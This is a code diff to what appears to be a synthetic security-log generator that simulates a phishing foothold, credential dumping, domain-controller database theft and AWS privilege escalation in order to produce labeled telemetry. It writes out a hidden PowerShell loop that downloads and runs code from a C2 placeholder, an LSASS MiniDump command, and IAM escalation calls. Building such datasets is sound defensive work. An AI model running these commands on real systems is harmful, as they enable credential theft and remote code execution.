@@ -9,6 +9,7 @@ import { syslogLine, sudoMessage } from './linux.js';
 import { checkpointCef, ephemeralPort, zeekConn, zeekDns, zeekUid, type Flow } from './network.js';
 import { oktaEvent, oktaRequestId, oktaSessionId, userTarget, type OktaClient } from './okta.js';
 import { cloudtrailPath } from './paths.js';
+import { awsResponseTime } from './time.js';
 import type { Tag } from './sink.js';
 import {
   logoff4634, logon4624, logonId, process4688, share5140, shareFile5145, specialLogon4672, sysmonAccess, sysmonFileCreate, sysmonNetwork, tgs4769,
@@ -209,10 +210,10 @@ function phishing(g: Gen, cast: Cast): Foothold {
   // The victim's morning logon is part of the benign day; the attack runs in that session.
   const s = g.sessions.get(`${h.name}\u0000${v.login}`) ?? workstationLogon(g, v, h, g.at(8.2));
   const exec = tag('phishing-powershell', 'macro-exec');
-  const t0 = Math.max(g.at(9.2), g.at(8.9));
+  const t0 = g.at(9.2);
   const outlook = g.process(h, t0 - 1_200_000, s.explorer, s.user, s.logonId, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ');
   const word = g.process(h, t0, outlook, s.user, s.logonId, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
-    `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${v.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8DK2QX1L\\Invoice_7731.docm" /o ""`);
+    `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\${v.login}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8DK2QX1L\\Invoice_7731.docm" /o ""`, exec);
   const script = `$u='https://${C2_DOMAIN}/c';while($true){try{$r=(New-Object Net.WebClient).DownloadString($u);iex $r}catch{};Start-Sleep -s 300}`;
   const enc = Buffer.from(script, 'utf16le').toString('base64');
   const ps = g.process(h, t0 + 6_500, word, s.user, s.logonId, POWERSHELL, `powershell.exe -nop -w hidden -enc ${enc}`, exec,
@@ -237,8 +238,6 @@ function credentialDumpWorkstation(g: Gen, f: Foothold): void {
   const h = f.host;
   const sys = g.systemProcs(h);
   const t = g.at(10.1);
-  const recon = g.process(h, t - 240_000, f.powershell, f.user, f.logonId, 'C:\\Windows\\System32\\whoami.exe', '"C:\\Windows\\system32\\whoami.exe" /priv');
-  void recon;
   const rundll = g.process(h, t, f.powershell, f.user, f.logonId, 'C:\\Windows\\System32\\rundll32.exe',
     `"C:\\Windows\\system32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump ${sys.lsass.pid} C:\\Users\\Public\\lsass.dmp full`, step, { integrity: 'High' });
   g.evtx(h, sysmonAccess(rng, {
@@ -327,7 +326,7 @@ function smbToDc(g: Gen, a: AdminFoothold): void {
     pe: { description: '', product: '', company: '', original: '', version: '' }, hashes: '', pid: nt.pid, parentPid: cmd.pid, guid: nt.guid, parentGuid: cmd.guid, integrity: 'High',
   }, a.account), ntds);
   g.evtx(dc, shareFile5145(rng, { ...share, at: t + 95_000 }, 'Windows\\Temp\\ifm\\Active Directory\\ntds.dit', false), lat);
-  g.evtx(dc, logoff4634(rng, dc, t + 240_000, a.account, id, 3));
+  g.evtx(dc, logoff4634(rng, dc, t + 240_000, a.account, id, 3), lat);
 }
 
 function cloudPrivesc(g: Gen, cast: Cast): void {
@@ -355,7 +354,7 @@ function cloudPrivesc(g: Gen, cast: Cast): void {
   const roleArn = `arn:aws:iam::${AWS_ACCOUNT}:role/ops-deploy`;
   const key = `ASIA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`;
   call(assume, sso, 'sts.amazonaws.com', 'AssumeRole', true, { roleArn, roleSessionName: 'maint', durationSeconds: 3600 },
-    { credentials: { accessKeyId: key, sessionToken: rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 64), expiration: new Date(t + 3_600_000).toUTCString() }, assumedRoleUser: { assumedRoleId: `AROA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 17)}:maint`, arn: `arn:aws:sts::${AWS_ACCOUNT}:assumed-role/ops-deploy/maint` } });
+    { credentials: { accessKeyId: key, sessionToken: rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/', 64), expiration: awsResponseTime(t + 3_600_000) }, assumedRoleUser: { assumedRoleId: `AROA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 17)}:maint`, arn: `arn:aws:sts::${AWS_ACCOUNT}:assumed-role/ops-deploy/maint` } });
   const role = withSessionStart({ ...roleSessionIdentity(rng, 'ops-deploy', 'maint'), accessKeyId: key }, t);
   const esc = tag('cloud-privesc', 'escalate');
   call(esc, role, 'iam.amazonaws.com', 'AttachRolePolicy', false, { roleName: 'ops-deploy', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' });
@@ -365,7 +364,7 @@ function cloudPrivesc(g: Gen, cast: Cast): void {
   });
   const persist = tag('cloud-privesc', 'persist');
   call(persist, role, 'iam.amazonaws.com', 'CreateAccessKey', false, { userName: 'svc-backup' },
-    { accessKey: { accessKeyId: `AKIA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`, status: 'Active', userName: 'svc-backup', createDate: new Date(t).toUTCString() } });
+    { accessKey: { accessKeyId: `AKIA${rng.chars('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567', 16)}`, status: 'Active', userName: 'svc-backup', createDate: awsResponseTime(t) } });
 }
 
 function exfiltration(g: Gen, a: AdminFoothold): void {
